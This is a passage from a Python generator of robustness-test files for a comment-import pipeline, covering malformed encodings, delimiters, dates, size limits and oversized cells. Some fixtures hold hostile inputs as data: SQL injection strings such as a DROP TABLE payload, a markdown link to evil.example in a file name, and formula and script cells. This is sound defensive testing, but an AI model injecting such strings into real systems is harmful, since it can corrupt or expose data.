            "json_wrong_types",
            "types.json",
            lambda: json.dumps(
                [
                    apify_item(0, ["list"]),
                    apify_item(1, {"d": 1}),
                    apify_item(2, 12345),
                    apify_item(3, "teks biasa"),
                ]
            ).encode(),
            "either",
        ),  # fmt: skip
        # --- encodings ---
        Case(
            "utf16_csv", "utf16.csv", lambda: ec_csv(encoding="utf-16"), "ok", texts=BASE_TEXTS[:2]
        ),
        Case(
            "cp1252_csv",
            "cp1252.csv",
            lambda: ec_csv(["café enak", "naïve ½"], encoding="cp1252"),
            "ok",
            texts=("café enak", "naïve ½"),
        ),  # fmt: skip
        Case(
            "invalid_utf8_bytes",
            "bad-utf8.csv",
            lambda: ec_csv(["AAAA", "BBBB"]).replace(b"AAAA", b"A\xff\xfe\xc3(A"),
            "either",
        ),  # fmt: skip
        Case(
            "mixed_encodings",
            "mixed.csv",
            lambda: ec_csv(["çà UTF8", "LATIN1"]).replace(b"LATIN1", "latïn1".encode("latin-1")),
            "either",
        ),  # fmt: skip
        # --- delimiters and layout ---
        Case("semicolon_csv", "semi.csv", lambda: ec_csv(delimiter=";"), "ok", texts=BASE_TEXTS),
        Case(
            "mixed_delimiters",
            "mixed-delim.csv",
            lambda: (
                base_csv.split(b"\r\n", 1)[0] + b"\r\n" + ec_csv(delimiter=";").split(b"\r\n", 1)[1]
            ),
            "either",
        ),  # fmt: skip
        Case(
            "ragged_rows",
            "ragged.csv",
            lambda: base_csv + b"1,2,3\r\n" + b",".join([b"x"] * 40) + b"\r\n",
            "either",
        ),  # fmt: skip
        Case("cr_only_newlines", "mac.csv", lambda: ec_csv(newline="\r"), "either"),
        Case(
            "nul_bytes_in_csv",
            "nul.csv",
            lambda: base_csv.replace(b"Semoga", b"Sem\x00oga"),
            "either",
        ),
        Case(
            "million_columns",
            "wide.csv",
            _million_columns,
            "error",
            match=r"(?i)column",
            heavy=True,
        ),
        Case("no_newline_10mb", "line.csv", lambda: b"a," * (5 * 1024 * 1024), "error", heavy=True),
        Case(
            "duplicate_header_names",
            "dupe.csv",
            lambda: base_csv.replace(b"Thumbnail", b"Comment", 1),
            "either",
        ),  # fmt: skip
        Case(
            "missing_required_column",
            "nodate.csv",
            lambda: base_csv.replace(b"Date", b"Tanggal", 1),
            "error",
        ),  # fmt: skip
        # --- huge cells ---
        Case("csv_10mb_cell", "bigcell.csv", _big_cell, "either", heavy=True),
        Case("json_10mb_cell", "bigcell.json", _big_json_cell, "either", heavy=True),
        Case(
            "long_author_and_id",
            "long.json",
            lambda: json.dumps(
                [
                    apify_item(0, "ok", ownerUsername="u" * 5000, id="9" * 5000),
                    apify_item(1, "teks kedua"),
                ]
            ).encode(),
            "either",
        ),  # fmt: skip
        # --- dates ---
        Case(
            "year_9999",
            "y9999.csv",
            lambda: ec_csv(
                ["masa depan", "hari ini"], dates=["9999-12-31 23:59:59", "2020-12-06 10:00:00"]
            ),
            "either",
        ),  # fmt: skip
        Case(
            "year_0001_and_garbage_dates",
            "y1.json",
            lambda: json.dumps(
                [
                    apify_item(0, "kuno", timestamp="0001-01-01T00:00:00Z"),
                    apify_item(1, "aneh", timestamp="kemarin sore"),
                    apify_item(2, "offset", timestamp="2020-12-06T03:15:00+25:00"),
                    apify_item(3, "epoch", timestamp=1e20),
                    apify_item(4, "benar"),
                ]
            ).encode(),
            "either",
        ),  # fmt: skip
        Case(
            "all_dates_bad",
            "nodates.json",
            lambda: json.dumps(
                [
                    apify_item(0, "a", timestamp="9999-01-01T00:00:00Z"),
                    apify_item(1, "b", timestamp=""),
                ]
            ).encode(),
            "either",
        ),  # fmt: skip
        # --- content that must survive verbatim ---
        Case("formula_cells_csv", "formula.csv", lambda: ec_csv(FORMULAS), "ok", texts=FORMULAS),
        Case("html_script", "html.json", lambda: apify_json(HTML), "ok", texts=HTML),
        Case("zero_width", "zw.json", lambda: apify_json(ZERO_WIDTH), "ok", texts=ZERO_WIDTH),
        Case("rtl_marks", "rtl.json", lambda: apify_json(RTL_TEXTS), "ok", texts=RTL_TEXTS),
        Case(
            "markup_in_every_field",
            "[Klik](http:evil.example) ![t].json",
            markup_json,
            "ok",
            texts=MARKUP,
        ),  # fmt: skip
        Case(
            "emoji_astral",
            "emoji.csv",
            lambda: ec_csv(["😡😡😡 kapan cair", "𝕓𝕒𝕟𝕤𝕠𝕤 👍🏽"]),
            "ok",
            texts=("😡😡😡 kapan cair", "𝕓𝕒𝕟𝕤𝕠𝕤 👍🏽"),
        ),  # fmt: skip
        Case(
            "sql_in_text",
            "sql.json",
            lambda: apify_json(["'); DROP TABLE comments;--", '" OR 1=1 --']),
            "ok",
            texts=("'); DROP TABLE comments;--", '" OR 1=1 --'),
        ),  # fmt: skip
        Case(
            "newlines_in_cells",
            "multiline.csv",
            lambda: ec_csv(["baris satu\nbaris dua", "a\r\nb"]),
            "either",
        ),  # fmt: skip
        # --- limits ---
        Case(
            "over_row_limit",
            "many.json",
            lambda: apify_json([f"teks {i}" for i in range(50)]),
            "error",
            match=r"max_rows_per_import|rows",
            settings={"max_rows_per_import": 10},
        ),  # fmt: skip
        Case(
            "over_size_limit",
            "big.json",
            lambda: apify_json([f"teks {i} " + "z" * 1000 for i in range(1500)]),
            "error",
            match=r"max_upload_mb|MB",
            settings={"max_upload_mb": 1},
        ),  # fmt: skip
        Case(
            "over_cell_limit",
            "cell.json",
            lambda: apify_json(["p" * 500, "pendek"]),
            "either",
            settings={"max_cell_chars": 100},
        ),  # fmt: skip
    ]
    return items + _xlsx_cases() + _later_cases() + _platform_cases() + _bomb_cases()


def main(out_dir: str) -> int:
    target = Path(out_dir)
    target.mkdir(parents=True, exist_ok=True)
    for case in cases():
        (target / f"{case.name}__{case.file_name}").write_bytes(case.data())
    print(f"wrote {len(cases())} files to {target}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus"))
